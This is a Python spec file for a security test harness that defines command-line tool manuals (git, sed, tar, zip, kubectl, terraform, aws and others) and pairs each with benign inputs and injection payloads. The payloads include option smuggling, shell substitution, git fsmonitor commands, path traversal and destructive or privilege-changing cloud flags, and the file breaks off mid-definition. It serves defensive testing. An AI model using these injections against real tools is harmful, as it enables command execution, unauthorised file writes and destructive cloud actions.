"""Specification of every tool in blind set E.  harness.py builds manuals/*.json from
TOOLS and labels each tool dynamically.  In commands, @{name} is the placeholder
UTCP_ARG_name_UTCP_END.  In args/setup, {C} canary path, {P} pwn path, {T} sandbox,
{W} working dir (cwd of the call), {ID} tool name."""
import re, os, glob, json

TOOLS = []
VARIABLES = {}
STUBS = ["ssh", "scp", "rsync", "docker", "kubectl", "helm", "terraform", "aws", "gcloud", "az",
         "psql", "mysql", "redis-cli", "mongosh", "ffmpeg", "convert", "exiftool", "pandoc", "gs",
         "sox", "qpdf", "gem", "go", "composer", "apt-get", "brew", "systemctl", "crontab", "sudo",
         "7z", "cpio", "dig", "nc", "socat", "pip", "npm", "gh", "svn", "hg", "rclone", "restic",
         "vault", "ansible-playbook", "podman", "skopeo", "ruby", "php", "lua", "Rscript", "cargo",
         "pdftk", "yt-dlp", "magick", "mc", "lftp", "kubeseal", "flux", "argocd", "pg_dump", "mysqldump",
         "nmap", "whois", "curlie", "ip", "iptables", "ufw", "journalctl", "logger", "at", "apt-cache",
         "dnf", "snap", "conda", "poetry", "uv", "yarn", "pnpm", "bundle", "mix", "dotnet", "gradle",
         "bazel", "sqlcmd", "gpg", "whois", "nmap", "yt-dlp", "influx", "clickhouse-client", "duckdb", "rg", "fd", "parallel", "ansible"]
STUB_BEHAVIOUR = {
    # docker exec: runs the command given after the container (here: locally), as the real CLI runs it in the container
    "docker": 'if [[ $1 == exec ]]; then shift; while [[ $# -gt 0 ]]; do case $1 in -u|-w|-e|--user|--workdir|--env) shift 2;; -*) shift;; *) break;; esac; done; shift; "$@"; fi',
    # ssh: like the real client, runs a ProxyCommand given with -oProxyCommand=..., and, joins the remote words with spaces and hands them to the remote shell
    "ssh": 'for a in "$@"; do case $a in -oProxyCommand=*) sh -c "${a#-oProxyCommand=}" </dev/null;; esac; done; while [[ $# -gt 0 ]]; do case $1 in -p|-i|-o|-l|-F|-J|-E) shift 2;; -*) shift;; *) break;; esac; done; shift; if [[ $# -gt 0 ]]; then bash -c "$*"; fi',
    # sudo: runs the command after its options, like the real sudo (as the same user here)
    "sudo": 'while [[ $# -gt 0 ]]; do case $1 in -u|-g|-C|-D) shift 2;; --) shift; break;; -*) shift;; *) break;; esac; done; "$@"',
}

def T(manual, name, cat, commands, inputs, *, desc, benign, expect="", payload=None, check=None,
      idiom="", prog="", setup=None, env=None, wd=None, inherit=None, why="", safe_check=None, hostile=None, timeout=25, opt_stop=None, split_ok=False):
    cmds = []
    for c in commands:
        c, a = (c if isinstance(c, tuple) else (c, None))
        cmds.append((re.sub(r"@\{([A-Za-z0-9_]+)\}", r"UTCP_ARG_\1_UTCP_END", c), a))
    if isinstance(inputs, (list, tuple)):
        inputs = {k: "string" for k in inputs}
    d = dict(manual=manual, name=name, cat=cat, commands=cmds, inputs=inputs, desc=desc, benign=benign,
             expect=expect, payload=payload, check=check, idiom=idiom, prog=prog, setup=setup,
             env_vars=env, working_dir=wd, inherit_env_vars=inherit, why=why, safe_check=safe_check,
             timeout=timeout, opt_stop=opt_stop, split_ok=split_ok)
    if hostile is not None: d["hostile"] = hostile
    TOOLS.append(d)

# ---- check helpers -------------------------------------------------------------
def pwn(c, o, e):            # a file at {P} (or {P}<suffix>) appeared
    return bool(glob.glob(c.P + "*"))
def has_arg(prog, arg, pos=None):
    def f(c, o, e):
        for a in c.argv(prog):
            if arg in a and "--" not in a[:a.index(arg)]:
                return True
        return False
    return f
def arg_starts(prog, prefix):
    def f(c, o, e):
        return any(any(x.startswith(prefix) for x in a[:a.index("--")] if True) if "--" in a else any(x.startswith(prefix) for x in a) for a in c.argv(prog))
    return f
def split_seen(prog, piece="blindE_splitB"):
    def f(c, o, e):
        return any(piece in a for a in c.argv(prog))
    return f
def out_has(s):
    return lambda c, o, e: s in (o or "")
def raised(sub=""):
    return lambda c, o, e: e is not None and sub in e
def out_lacks(s):
    return lambda c, o, e: e is None and s not in (o or "")
def file_exists(p):
    return lambda c, o, e: c.exists(p)
def file_gone(p):
    return lambda c, o, e: not c.exists(p)
SPLIT = "blindE_splitA blindE_splitB"
GIT = "git init -q repo && cd repo && printf 'hello\\nworld\\n' > README.md && mkdir -p src && echo 'print(1)' > src/app.py && git add . && git -c user.email=a@b.c -c user.name=dev commit -qm 'initial import' && git tag v1.0"

# =============================== repo_tools ======================================
M = "repo_tools"
T(M, "git_file_history", "safe", ["git -C repo log --oneline -n 5 -- @{path}"], ["path"],
  desc="Show the last five commits that touched a file.", benign={"path": "README.md"}, expect="initial import",
  setup=GIT, prog="git", idiom="path after --")
T(M, "git_log_since_rev", "option", ["git -C repo log --oneline -n 20 @{rev}"], ["rev"],
  desc="List commits reachable from a revision (branch, tag or SHA).", benign={"rev": "v1.0"}, expect="initial import",
  payload={"rev": "--output={P}"}, check=pwn, setup=GIT, prog="git", idiom="revision as leading option (--output)",
  why="git log accepts --output=<file> and writes the log there")
T(M, "git_show_blob", "option", ['git -C repo show "@{rev}:@{path}"'], ["rev", "path"],
  desc="Print a file as it was at a given revision.", benign={"rev": "v1.0", "path": "README.md"}, expect="hello",
  payload={"rev": "--output={P}", "path": "README.md"}, check=pwn, setup=GIT, prog="git", idiom="rev:path one word still an option",
  why="the joined word '--output=<P>:README.md' is parsed by git show as --output, file written")
T(M, "git_blame_range", "safe", ["git -C repo blame -L @{start},+5 -- @{path}"], ["start", "path"],
  desc="Blame five lines starting at a line number.", benign={"start": "1", "path": "README.md"}, expect="hello",
  setup=GIT, prog="git", idiom="value glued to -L argument, path after --")
T(M, "git_set_config", "exec", ["git -C repo config --local @{key} @{value}", "git -C repo status --short"], ["key", "value"],
  desc="Set a repository-local git configuration value and show the status.", benign={"key": "user.name", "value": "Ada"}, expect="",
  payload={"key": "core.fsmonitor", "value": "touch {C}; false"}, setup=GIT, prog="git", idiom="config that names a command (core.fsmonitor)")
T(M, "git_mirror_clone", "write", ["mkdir -p mirrors", "git clone -q --depth 1 @{url} mirrors/@{name}", ("ls mirrors", True)], ["url", "name"],
  desc="Clone a repository into the local mirrors/ folder.", benign={"url": "file://{W}/repo", "name": "copy"}, expect="copy",
  payload={"url": "file://{W}/repo", "name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, setup=GIT, prog="git",
  idiom="clone target under mirrors/ with ../", why="clone lands outside mirrors/ at /tmp")
T(M, "git_grep_literal", "safe", ["git -C repo grep -n -F -e @{pattern} -- @{pathspec}"], ["pattern", "pathspec"],
  desc="Search tracked files for a fixed string.", benign={"pattern": "world", "pathspec": "*.md"}, expect="world",
  setup=GIT, prog="git", idiom="-e pattern, pathspec after --")
T(M, "git_archive_release", "write", ["git -C repo archive --format=tar -o @{out}.tar @{tag}", ("echo archived", True)], ["out", "tag"],
  desc="Export a tagged release as a tarball in the current folder.", benign={"out": "release", "tag": "v1.0"}, expect="archived",
  payload={"out": "/tmp/blindE_pwn_{ID}", "tag": "v1.0"}, check=pwn, setup=GIT, prog="git",
  idiom="output name accepts absolute path", why="archive written at the absolute path given")
T(M, "git_checkout_branch", "option", ["git -C repo checkout -q @{branch}", "git -C repo status --short --branch"], ["branch"],
  desc="Switch the working copy to an existing branch.", benign={"branch": "master"}, expect="##",
  payload={"branch": "--orphan=blindE_orphan"}, check=out_has("No commits yet"), setup=GIT + " && git branch -m master", prog="git",
  idiom="branch name as option (--orphan)", why="checkout creates an orphan branch instead of switching")
T(M, "git_tag_message", "safe", ["git -C repo -c user.email=bot@example.com -c user.name=bot tag -a -m @{message} -- @{tag}", "git -C repo tag -n1"], ["message", "tag"],
  desc="Create an annotated tag with a message.", benign={"message": "release one", "tag": "v1.1"}, expect="release one",
  setup=GIT, prog="git", idiom="-m value, tag after --",
  hostile=["$(touch {C})", "`touch {C}`", ";touch {C}", "-o{P}", "--output={P}", "../../../../../tmp/blindE_pwn_{ID}", "*", SPLIT])
T(M, "svn_export_path", "split", ["svn export --force $(echo @{url} | tr -d '\\r') export_dir"], ["url"],
  desc="Export a Subversion path (URL) into export_dir.", benign={"url": "https://svn.local/repo/trunk"}, expect="svn-stub",
  payload={"url": SPLIT}, check=split_seen("svn"), prog="svn", idiom="unquoted $(echo value) word-splits",
  why="svn receives two separate arguments")
T(M, "hg_pull_update", "option", ["hg pull -u @{source}"], ["source"],
  desc="Pull from a Mercurial source and update.", benign={"source": "https://hg.local/proj"}, expect="hg-stub",
  payload={"source": "--insecure"}, check=has_arg("hg", "--insecure"), prog="hg",
  idiom="source as option (--insecure)", why="hg receives --insecure (TLS verification off) as an option, not a source")
T(M, "gh_issue_view", "safe", ["gh issue view @{number} --repo @{repo} --json title,state"], {"number": {"type": "integer"}, "repo": "string"},
  desc="Show a GitHub issue's title and state.", benign={"number": 12, "repo": "octo/demo"}, expect="gh-stub",
  prog="gh", idiom="value of --repo", hostile=["$(touch {C})", ";touch {C}", "-o{P}", SPLIT, "--output={P}"])
T(M, "git_apply_patch", "write", ["printf '%s\\n' @{patch} > change.diff", "git -C repo apply --unsafe-paths --directory=. ../change.diff 2>&1 || git apply --unsafe-paths change.diff", ("echo applied", True)], ["patch"],
  desc="Apply a unified diff to the repository.", benign={"patch": "--- a/README.md\n+++ b/README.md\n@@ -1,2 +1,2 @@\n-hello\n+hi\n world"}, expect="applied",
  payload={"patch": "--- /dev/null\n+++ b/../../../../../../tmp/blindE_pwn_{ID}\n@@ -0,0 +1 @@\n+pwn"}, check=pwn, setup=GIT, prog="git",
  idiom="git apply --unsafe-paths", why="the patch creates a file outside the repository")
T(M, "patch_apply_file", "safe", ["cd repo && patch -p1 --batch --no-backup-if-mismatch -i ../@{name}.diff"], ["name"],
  desc="Apply a stored patch from the patches folder (by name).", benign={"name": "fix"}, expect="patching file",
  setup=GIT + " && cd .. && printf -- '--- a/README.md\\n+++ b/README.md\\n@@ -1,2 +1,2 @@\\n-hello\\n+hi\\n world\\n' > fix.diff", prog="patch",
  idiom="name inside a fixed path suffix")
T(M, "diff_two_revisions", "option", ["git -C repo diff --stat @{a}..@{b} --"], ["a", "b"],
  desc="Show a diffstat between two revisions.", benign={"a": "v1.0", "b": "HEAD"}, expect="",
  payload={"a": "--output={P}", "b": "HEAD"}, check=pwn, why="the word '--output=<P>..HEAD' is an option to git diff: it writes a file",
  setup=GIT, prog="git", idiom="range a..b is one word starting with the value")
T(M, "git_commit_all", "broken", ["cd repo && git add -A && git commit -qm \"$COMMIT_PREFIX: @{message}\"", ("git -C repo log --oneline -n1", True)], ["message"],
  desc="Commit all changes with a message prefixed by the team prefix.", benign={"message": "update docs"}, expect="update docs",
  env={"COMMIT_PREFIX": "chore"}, setup=GIT + " && echo x >> README.md", prog="git",
  idiom="$COMMIT_PREFIX from env_vars substituted by client", why="the client substitutes $COMMIT_PREFIX with a client variable that does not exist")

# =============================== text_tools ======================================
M = "text_tools"
CSV = "printf 'name,region,amount\\nana,eu,10\\nbob,us,32\\ncid,eu,5\\n' > data.csv && printf 'alpha line\\nbeta line\\nerror: disk\\n' > notes.txt"
T(M, "csv_column_total", "broken", ["awk -F, -v col=@{column} 'NR > 1 { total += $col } END { print total }' data.csv"], ["column"],
  desc="Sum a numeric CSV column (1-based column number).", benign={"column": "3"}, expect="47", setup=CSV, prog="awk",
  idiom="awk $col field reference", why="the client substitutes $col as a client variable; every call fails")
T(M, "notes_matching", "exec", ['awk "/@{pattern}/ { n++; print } END { print n \\" matching\\" }" notes.txt'], ["pattern"],
  desc="Print numbered note lines matching a regular expression.", benign={"pattern": "error"}, expect="error: disk", setup=CSV, prog="awk",
  payload={"pattern": "./ { system(\"touch {C}\") } /x"}, idiom="value inside a double-quoted awk program")
T(M, "csv_head_rows", "safe", ["awk -v limit=@{limit} 'NR <= limit + 1' data.csv"], ["limit"],
  desc="Show the header plus the first N data rows of the CSV.", benign={"limit": "2"}, expect="bob", setup=CSV, prog="awk",
  idiom="awk -v assignment (not code)")
T(M, "notes_drop_lines", "exec", ['sed -e "/@{pattern}/d" notes.txt'], ["pattern"],
  desc="Print the notes without the lines matching a pattern.", benign={"pattern": "beta"}, expect="alpha", setup=CSV, prog="sed",
  payload={"pattern": "x/d;1e touch {C}\n#"}, idiom="GNU sed e command through the address regex")
T(M, "notes_grep_sed", "write", ['sed -n "/@{pattern}/p" notes.txt'], ["pattern"],
  desc="Print note lines that match a pattern (sed flavour).", benign={"pattern": "line"}, expect="beta line", setup=CSV, prog="sed",
  payload={"pattern": "x/w {P}\n#"}, check=pwn, idiom="sed w command writes a file", why="sed's w command creates the file named in the value")
T(M, "notes_line_at", "safe", ['[[ @{line} =~ ^[0-9]+$ ]] || { echo "line must be a number"; exit 1; }; sed -n "@{line}p" notes.txt'], ["line"],
  desc="Print one line of the notes by number.", benign={"line": "2"}, expect="beta", setup=CSV, prog="sed",
  idiom="regex guard before sed script")
T(M, "users_by_name", "broken", ["jq -c --arg name @{name} '.[] | select(.name == $name)' users.json"], ["name"],
  desc="Look up a user record by name.", benign={"name": "ana"}, expect="ana",
  setup="echo '[{\"name\":\"ana\",\"id\":1},{\"name\":\"bob\",\"id\":2}]' > users.json", prog="jq",
  idiom="jq $name variable", why="the client substitutes $name; the tool always raises UtcpVariableNotFound")
T(M, "users_field", "safe", ["FIELD=@{field} jq -c 'map({name, value: .[env.FIELD]})' users.json"], ["field"],
  desc="Project one field of every user.", benign={"field": "id"}, expect="bob",
  setup="echo '[{\"name\":\"ana\",\"id\":1},{\"name\":\"bob\",\"id\":2}]' > users.json", prog="jq",
  idiom="value passed through env.FIELD")
T(M, "sort_unique_lines", "option", ["sort -u @{file}"], ["file"],
  desc="Print the unique lines of a file, sorted.", benign={"file": "notes.txt"}, expect="alpha", setup=CSV, prog="sort",
  payload={"file": "-o{P}"}, check=pwn, idiom="file operand as -o option", why="sort -o<file> writes (truncates) the named file")
T(M, "csv_cut_columns", "safe", ["cut -d, -f @{fields} -- data.csv"], ["fields"],
  desc="Extract CSV columns by list (e.g. 1,3).", benign={"fields": "1,3"}, expect="bob,32", setup=CSV, prog="cut",
  idiom="value as -f option argument, file after --")
T(M, "transcode_file", "write", ["mkdir -p converted && iconv -f @{encoding} -t UTF-8 -o converted/@{name} notes.txt && echo converted"], ["encoding", "name"],
  desc="Convert notes.txt from an encoding to UTF-8 into converted/<name>.", benign={"encoding": "LATIN1", "name": "notes.utf8"}, expect="converted",
  setup=CSV, prog="iconv", payload={"encoding": "LATIN1", "name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn,
  idiom="-o dir/value with ../", why="output escapes converted/")
T(M, "split_markdown_sections", "write", ["csplit -s -z -f @{prefix} doc.md '/^## /' '{*}' && ls"], ["prefix"],
  desc="Split doc.md into one file per second-level section.", benign={"prefix": "section_"}, expect="section_00",
  setup="printf '# T\\n## a\\ntext\\n## b\\nmore\\n' > doc.md", prog="csplit", payload={"prefix": "/tmp/blindE_pwn_{ID}_"}, check=pwn,
  idiom="csplit -f prefix is a path", why="pieces are written under /tmp")
T(M, "translate_chars", "safe", ["printf '%s\\n' @{text} | tr -- @{from} @{to}"], ["text", "from", "to"],
  desc="Translate characters of a text (like tr).", benign={"text": "hello", "from": "a-z", "to": "A-Z"}, expect="HELLO", prog="tr",
  idiom="tr operands after --")
T(M, "count_lines_of", "split", ["echo @{file} | xargs wc -l"], ["file"],
  desc="Count the lines of one file.", benign={"file": "notes.txt"}, expect="3 notes.txt", setup=CSV + " && echo a > blindE_splitA && echo b > blindE_splitB", prog="xargs",
  payload={"file": SPLIT}, check=out_has("total"), idiom="echo | xargs re-splits the value", why="xargs splits the name at the space; wc counts two files and prints a total")
T(M, "append_channel_log", "write", ["mkdir -p logs && printf '%s\\n' @{entry} | tee -a logs/@{channel}.log"], ["entry", "channel"],
  desc="Append an entry to a channel log under logs/.", benign={"entry": "deploy ok", "channel": "ops"}, expect="deploy ok", prog="tee",
  payload={"entry": "x", "channel": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="tee -a logs/<value>.log", why="log written outside logs/")
T(M, "carve_disk_blocks", "safe", ["dd if=disk.img of=carved.bin bs=512 skip=@{skip} count=@{count} status=none && wc -c < carved.bin"], ["skip", "count"],
  desc="Copy COUNT 512-byte blocks starting at block SKIP from disk.img.", benign={"skip": "1", "count": "2"}, expect="1024",
  setup="head -c 8192 /dev/zero > disk.img", prog="dd", idiom="dd key=value operand with value glued")
T(M, "store_upload_b64", "split", ['mkdir -p uploads && printf \'%s\' @{data} | base64 -d > "uploads/$(basename -- @{filename})" && ls uploads'], ["data", "filename"],
  desc="Decode a base64 upload and store it under uploads/ (basename only).", benign={"data": "aGVsbG8=", "filename": "hello.txt"}, expect="hello.txt",
  prog="base64", payload={"data": "aGVsbG8=", "filename": SPLIT}, check=file_exists("{W}/uploads/blindE_splitA"), idiom="$(basename ...) inside double quotes leaves the value unquoted",
  why="basename receives two words, the upload is stored as blindE_splitA")
T(M, "store_upload_safe", "safe", ["mkdir -p uploads && printf '%s' @{data} | base64 -d > uploads/$(basename -- @{filename}) && ls uploads"], ["data", "filename"],
  desc="Decode a base64 upload and store it under uploads/.", benign={"data": "aGVsbG8=", "filename": "hello.txt"}, expect="hello.txt",
  prog="base64", idiom="redirect target from $(basename -- value)")
T(M, "sample_words", "safe", ["shuf -n @{count} --random-source=words.txt words.txt"], ["count"],
  desc="Pick N words from the word list.", benign={"count": "2"}, expect="\n", setup="printf 'apple\\npear\\nplum\\n' > words.txt", prog="shuf",
  idiom="value as -n argument")
T(M, "grep_notes_fixed", "safe", ["grep -n -F -e @{needle} -- notes.txt || echo 'no match'"], ["needle"],
  desc="Find lines containing a literal string.", benign={"needle": "disk"}, expect="error: disk", setup=CSV, prog="grep",
  idiom="grep -F -e value --")

# =============================== archive_tools ===================================
M = "archive_tools"
ARC = "mkdir -p src out && echo 'hello' > src/a.txt && echo 'readme' > README.md && tar -cf bundle.tar -C src a.txt && zip -q bundle.zip README.md src/a.txt"
T(M, "tar_extract_member", "exec", ["tar -xf bundle.tar -C out @{member} && ls out"], ["member"],
  desc="Extract one member of bundle.tar into out/.", benign={"member": "a.txt"}, expect="a.txt", setup=ARC, prog="tar",
  payload={"member": "--to-command=touch {C}"}, idiom="member name as --to-command option")
T(M, "tar_extract_member_safe", "safe", ["tar -xf bundle.tar -C out -- @{member} && ls out"], ["member"],
  desc="Extract one member of bundle.tar into out/ (member after --).", benign={"member": "a.txt"}, expect="a.txt", setup=ARC, prog="tar",
  idiom="member after --")
T(M, "tar_append_paths", "split", ["printf '%s\\n' @{path} | xargs tar -rf bundle.tar && tar -tf bundle.tar"], ["path"],
  desc="Append a file to bundle.tar and list the archive.", benign={"path": "README.md"}, expect="README.md",
  setup=ARC + " && echo 1 > blindE_splitA && echo 2 > blindE_splitB", prog="xargs", payload={"path": SPLIT}, check=out_has("blindE_splitB"),
  idiom="printf | xargs splits one path on blanks", why="both blindE_splitA and blindE_splitB end up as separate members")
T(M, "zip_add_names_stdin", "safe", ["printf '%s\\n' @{path} | zip -q bundle.zip -@ && unzip -l bundle.zip"], ["path"],
  desc="Add a file to bundle.zip (name read by zip -@).", benign={"path": "README.md"}, expect="README.md",
  setup=ARC, prog="zip", idiom="zip -@ reads one name per line (no blank splitting)")
T(M, "zip_package_tested", "exec", ["zip -q -T -r @{archive} src README.md && echo packaged"], ["archive"],
  desc="Package src/ and README.md into a zip archive and verify it.", benign={"archive": "release.zip"}, expect="packaged", setup=ARC, prog="zip",
  payload={"archive": "-TTtouch {C}"}, idiom="archive name as -TT (unzip command) option")
T(M, "unzip_into", "write", ["unzip -o -q bundle.zip -d @{dest} && echo extracted"], ["dest"],
  desc="Extract bundle.zip into a folder.", benign={"dest": "unpacked"}, expect="extracted", setup=ARC, prog="unzip",
  payload={"dest": "/tmp/blindE_pwn_{ID}"}, check=pwn, idiom="-d destination taken as-is", why="files written under /tmp")
T(M, "unzip_into_checked", "safe", ['case @{dest} in */*|.*|-*|"") echo "dest must be a plain folder name"; exit 1;; esac; unzip -o -q bundle.zip -d extracted/@{dest} && echo extracted'], ["dest"],
  desc="Extract bundle.zip into extracted/<dest>.", benign={"dest": "v1"}, expect="extracted", setup=ARC, prog="unzip",
  idiom="case guard rejecting / . - before -d")
T(M, "unzip_print_entry", "safe", ["unzip -p bundle.zip @{entry}"], ["entry"],
  desc="Print one entry of bundle.zip.", benign={"entry": "README.md"}, expect="readme", setup=ARC, prog="unzip",
  idiom="member operand after zipfile (unzip stops option parsing)")
T(M, "zstd_compress_to", "write", ["mkdir -p compressed && zstd -q -f README.md -o compressed/@{name}.zst && ls compressed"], ["name"],
  desc="Compress README.md into compressed/<name>.zst.", benign={"name": "readme"}, expect="readme.zst", setup=ARC, prog="zstd",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="-o dir/value with ../", why="written outside compressed/")
T(M, "xz_peek", "safe", ["xz -dc -- @{file}.xz | head -n 5"], ["file"],
  desc="Show the first lines of a .xz compressed file.", benign={"file": "README.md"}, expect="readme",
  setup=ARC + " && xz -k README.md", prog="xz", idiom="operand after -- with suffix")
T(M, "gzip_copy_to_archive", "write", ["mkdir -p archive && gzip -c @{file} > archive/@{file}.gz && ls archive"], ["file"],
  desc="Store a gzip copy of a file under archive/.", benign={"file": "README.md"}, expect="README.md.gz", setup=ARC, prog="gzip",
  payload={"file": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="redirect target archive/<value>.gz",
  why="the redirect creates /tmp/blindE_pwn_*.gz before gzip even runs")
T(M, "lz4_unpack", "write", ["lz4 -q -d -f data.lz4 restored/@{name} && ls restored"], ["name"],
  desc="Decompress data.lz4 into restored/<name>.", benign={"name": "data.txt"}, expect="data.txt",
  setup=ARC + " && mkdir restored && lz4 -q README.md data.lz4", prog="lz4", payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn,
  idiom="destination dir/value with ../", why="decompressed outside restored/")
T(M, "sevenzip_extract", "option", ["7z x upload.7z -ooutput @{entry}"], ["entry"],
  desc="Extract one entry of upload.7z into output/.", benign={"entry": "report.pdf"}, expect="7z-stub", prog="7z",
  payload={"entry": "-aoa"}, check=has_arg("7z", "-aoa"), idiom="entry as 7z switch (-aoa overwrite all)", why="7z receives -aoa as a switch: overwrite existing files without prompt")
T(M, "deb_inspect", "safe", ["dpkg-deb --field @{deb} Package Version"], ["deb"],
  desc="Print Package and Version of a .deb file.", benign={"deb": "pkg.deb"}, expect="Package: demo",
  setup="mkdir -p p/DEBIAN && printf 'Package: demo\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: a <a@b.c>\\nDescription: d\\n' > p/DEBIAN/control && dpkg-deb -b p pkg.deb >/dev/null",
  prog="dpkg-deb", idiom="value is --field's own argument")
T(M, "deb_unpack", "write", ["dpkg-deb -x @{deb} @{dest} && echo unpacked"], ["deb", "dest"],
  desc="Unpack the files of a .deb into a staging folder.", benign={"deb": "pkg.deb", "dest": "staging"}, expect="unpacked",
  setup="mkdir -p p/DEBIAN p/usr/share/demo && echo x > p/usr/share/demo/f && printf 'Package: demo\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: a <a@b.c>\\nDescription: d\\n' > p/DEBIAN/control && dpkg-deb -b p pkg.deb >/dev/null",
  prog="dpkg-deb", payload={"deb": "pkg.deb", "dest": "/tmp/blindE_pwn_{ID}"}, check=pwn, idiom="destination directory from value", why="unpacked into /tmp")
T(M, "ar_list_members", "safe", ["ar t -- @{lib}"], ["lib"],
  desc="List the object files inside a static library.", benign={"lib": "libdemo.a"}, expect="x.o",
  setup="echo x > x.o && ar rc libdemo.a x.o", prog="ar", idiom="ar operand after --")
T(M, "cpio_pack_glob", "safe", ["find src -name @{glob} -print | cpio -o > pack.cpio && echo packed"], ["glob"],
  desc="Pack files of src/ matching a name glob into pack.cpio.", benign={"glob": "*.txt"}, expect="packed", setup=ARC, prog="cpio",
  idiom="find -name quoted glob")

# =============================== cloud_tools =====================================
M = "cloud_tools"
T(M, "k8s_delete_pod", "option", ["kubectl delete pod @{pod} -n @{namespace} --wait=false"], ["pod", "namespace"],
  desc="Delete one pod so its controller recreates it.", benign={"pod": "web-7d9f", "namespace": "apps"}, expect="kubectl-stub", prog="kubectl",
  payload={"pod": "--all", "namespace": "apps"}, check=has_arg("kubectl", "--all"), idiom="resource name as --all",
  why="kubectl receives --all: every pod in the namespace is deleted")
T(M, "k8s_pod_logs", "safe", ["kubectl logs -n @{namespace} --tail=200 -- @{pod}"], ["namespace", "pod"],
  desc="Show the last 200 log lines of a pod.", benign={"namespace": "apps", "pod": "web-7d9f"}, expect="kubectl-stub", prog="kubectl",
  idiom="pod after --, namespace as -n value")
T(M, "k8s_scale", "safe", ["[[ @{replicas} =~ ^[0-9]{1,2}$ ]] || { echo 'replicas must be 0-99'; exit 2; }", "kubectl scale deployment/@{name} -n apps --replicas=@{replicas}"], ["name", "replicas"],
  desc="Scale a deployment to N replicas.", benign={"name": "web", "replicas": "3"}, expect="kubectl-stub", prog="kubectl",
  idiom="resource/value prefix and regex guard (guard in its own step!)",
  why="")
T(M, "k8s_scale_guarded", "safe", ["[[ @{replicas} =~ ^[0-9]{1,2}$ ]] || { echo 'replicas must be 0-99'; exit 2; }; kubectl scale deployment/@{name} -n apps --replicas=@{replicas}"], ["name", "replicas"],
  desc="Scale a deployment to N replicas (validated).", benign={"name": "web", "replicas": "3"}, expect="kubectl-stub", prog="kubectl",
  idiom="regex guard then resource/value")
T(M, "k8s_restart_many", "broken", ["for d in @{deployments}; do kubectl rollout restart deployment/${d} -n apps; done"], ["deployments"],
  desc="Restart one or more deployments.", benign={"deployments": "web"}, expect="kubectl-stub", prog="kubectl",
  idiom="loop variable ${d}", why="the client substitutes ${d} with a client variable that does not exist")
T(M, "helm_deploy_release", "option", ["helm upgrade --install @{release} ./chart -n apps --atomic"], ["release"],
  desc="Install or upgrade a Helm release from ./chart.", benign={"release": "web"}, expect="helm-stub", prog="helm",
  payload={"release": "--kube-context=prod-admin"}, check=has_arg("helm", "--kube-context=prod-admin"), idiom="release name as --kube-context",
  why="helm receives --kube-context: the release goes to another cluster")
T(M, "helm_values_show", "safe", ["helm get values -n apps -o yaml --revision @{revision} -- @{release}"], {"release": "string", "revision": {"type": "integer"}},
  desc="Show the values of a release revision.", benign={"release": "web", "revision": 2}, expect="helm-stub", prog="helm",
  idiom="release after --")
T(M, "tf_apply_plan", "option", ["terraform -chdir=infra apply -auto-approve -input=false @{planfile}"], ["planfile"],
  desc="Apply a saved Terraform plan file.", benign={"planfile": "tfplan"}, expect="terraform-stub", prog="terraform",
  payload={"planfile": "-destroy"}, check=has_arg("terraform", "-destroy"), idiom="plan file as -destroy", why="terraform receives -destroy with -auto-approve")
T(M, "tf_plan_region", "safe", ["terraform -chdir=infra plan -input=false -var region=@{region} -out tfplan"], ["region"],
  desc="Plan infrastructure for a region.", benign={"region": "eu-west-1"}, expect="terraform-stub", prog="terraform",
  idiom="-var name=value one word")
T(M, "aws_tail_logs", "option", ["aws logs tail @{group} --since 1h --format short"], ["group"],
  desc="Tail a CloudWatch log group for the last hour.", benign={"group": "/app/web"}, expect="aws-stub", prog="aws",
  payload={"group": "--profile=prod-admin"}, check=has_arg("aws", "--profile=prod-admin"), idiom="log group as --profile option",
  why="aws receives --profile: credentials of another account are used")
T(M, "aws_s3_list_prefix", "safe", ["aws s3 ls s3://team-reports/@{prefix} --recursive --human-readable"], ["prefix"],
  desc="List report objects under a prefix.", benign={"prefix": "2026/"}, expect="aws-stub", prog="aws", idiom="s3:// URL prefix")
T(M, "aws_describe_region", "broken", ["aws ec2 describe-instances --region $AWS_REGION --filters Name=tag:team,Values=@{team} --output table"], ["team"],
  desc="List EC2 instances of a team in the configured region.", benign={"team": "web"}, expect="aws-stub", prog="aws",
  env={"AWS_REGION": "eu-west-1"}, idiom="$AWS_REGION from env_vars", why="$AWS_REGION is substituted by the client, which has no such variable")
T(M, "gcloud_switch_project", "option", ["gcloud config set project @{project}", "gcloud compute instances list --format=json"], ["project"],
  desc="Switch the active GCP project and list its instances.", benign={"project": "demo-123"}, expect="gcloud-stub", prog="gcloud",
  payload={"project": "--impersonate-service-account=admin@prod.iam.gserviceaccount.com"},
  check=has_arg("gcloud", "--impersonate-service-account=admin@prod.iam.gserviceaccount.com"), idiom="project id as global flag",
  why="gcloud receives the impersonation flag")
T(M, "az_vm_table", "safe", ["az vm list --resource-group @{group} --output table"], ["group"],
  desc="List the VMs of a resource group.", benign={"group": "rg-web"}, expect="az-stub", prog="az", idiom="--resource-group value")
T(M, "docker_run_tool", "option", ["docker run --rm @{image} --version"], ["image"],
  desc="Print the version of a tool image.", benign={"image": "alpine:3.20"}, expect="docker-stub", prog="docker",
  payload={"image": "--privileged"}, check=has_arg("docker", "--privileged"), idiom="image as docker run flag",
  why="docker receives --privileged (and --version becomes the image)")
T(M, "docker_logs_tail", "safe", ["docker logs --tail @{lines} -- @{container}"], ["lines", "container"],
  desc="Show the last N log lines of a container.", benign={"lines": "50", "container": "web"}, expect="docker-stub", prog="docker",
  idiom="container after --")
T(M, "docker_exec_listing", "exec", ["docker exec web sh -c \"ls -la /srv/@{dir}\""], ["dir"],
  desc="List a directory inside the web container.", benign={"dir": "."}, expect="docker-stub", prog="docker",
  payload={"dir": "; touch {C}"}, idiom="value inside sh -c string run by docker exec")
T(M, "docker_exec_listing_safe", "safe", ["docker exec web ls -la -- /srv/@{dir}"], ["dir"],
  desc="List a directory inside the web container (no shell).", benign={"dir": "."}, expect="docker-stub", prog="docker",
  idiom="docker exec without a shell")
T(M, "podman_remove_images", "split", ["set -- $(echo @{image}); podman rmi \"$@\""], ["image"],
  desc="Remove a local image by reference.", benign={"image": "localhost/app:old"}, expect="podman-stub", prog="podman",
